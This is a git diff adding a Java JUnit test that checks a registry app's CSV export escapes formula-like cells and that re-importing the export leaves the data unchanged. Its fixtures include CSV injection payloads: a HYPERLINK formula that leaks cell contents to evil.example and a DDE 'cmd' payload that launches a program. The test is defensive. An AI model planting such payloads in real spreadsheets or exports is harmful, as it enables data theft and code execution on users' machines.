@@ -15,6 +15,8 @@ import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
 
+import org.apache.commons.csv.CSVFormat;
+import org.apache.commons.csv.CSVParser;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.springframework.beans.factory.annotation.Autowired;
@@ -287,6 +289,46 @@ class RegistryImportTests {
 			.andExpect(jsonPath("$.updated").value(0))
 			.andExpect(jsonPath("$.unchanged").value(lines));
 		importCsv(sample, false).andExpect(jsonPath("$.unchanged").value(lines));
+		assertThat(export()).isEqualTo(exported);
+	}
+
+	@Test
+	void exportsCellsASpreadsheetWouldRunAsFormulasAsTextAndImportsTheExportBackUnchanged() throws Exception {
+		importCsv(HEADER + """
+				=1+1,@SUM(1+1),youtube,@canal,,"=HYPERLINK(""http://evil.example/?d=""&A1,""Ver"")",,-2+3 campaña,,,+cmd|' /C calc'!A0
+				=1+1,@SUM(1+1),x,villaverde,,''=ya entrecomillado,-prensa@villaverde.example.es,,,,
+				Villaverde,,youtube,,https://www.youtube.com/@villaverde,@villaverde,,,,,
+				""").andExpect(status().isOk()).andExpect(jsonPath("$.created").value(3));
+		var stored = """
+				select o.name as organization, u.name as unit, a.handle, a.display_name, a.contact_email, a.purpose, a.notes
+				from account a join organization o on o.id = a.organization_id left join unit u on u.id = a.unit_id
+				order by a.id""";
+		var before = jdbc.sql(stored).query().listOfRows();
+		assertThat(before.getFirst().values()).containsExactly("=1+1", "@SUM(1+1)", "@canal",
+				"=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Ver\")", null, "-2+3 campaña", "+cmd|' /C calc'!A0");
+		assertThat(before.get(1).get("display_name")).isEqualTo("'=ya entrecomillado");
+
+		var exported = export();
+
+		try (var parser = CSVParser.parse(exported, CSVFormat.RFC4180)) {
+			for (var record : parser) {
+				for (var cell : record) {
+					assertThat(cell).as("line %d", parser.getCurrentLineNumber())
+						.doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-").doesNotStartWith("@")
+						.doesNotStartWith("\t").doesNotStartWith("\r");
+				}
+			}
+		}
+		assertThat(exported).contains("'=1+1,'@SUM(1+1),youtube,'@canal,")
+			.contains("\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Ver\"\")\"")
+			.contains("'+cmd|' /C calc'!A0").contains(",''=ya entrecomillado,'-prensa@villaverde.example.es,")
+			.contains("Villaverde,,youtube,'@villaverde,https://www.youtube.com/@villaverde,'@villaverde,");
+
+		importCsv(exported.getBytes(StandardCharsets.UTF_8), false).andExpect(status().isOk())
+			.andExpect(jsonPath("$.created").value(0))
+			.andExpect(jsonPath("$.updated").value(0))
+			.andExpect(jsonPath("$.unchanged").value(3));
+		assertThat(jdbc.sql(stored).query().listOfRows()).isEqualTo(before);
 		assertThat(export()).isEqualTo(exported);
 	}
 
